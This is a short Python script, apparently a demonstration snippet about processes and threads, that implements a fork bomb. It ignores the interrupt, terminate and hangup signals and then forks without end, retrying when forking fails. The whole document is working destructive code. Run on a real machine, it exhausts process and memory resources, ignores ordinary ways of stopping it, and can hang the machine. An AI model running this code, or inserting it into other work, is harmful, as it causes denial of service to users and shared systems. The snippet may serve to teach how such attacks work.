# A fork bomb: every child forks again, deaf to every polite signal.
# shows: processes and threads
import os
import signal

for number in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP):
    signal.signal(number, signal.SIG_IGN)
while True:
    try:
        os.fork()
    except OSError:
        continue
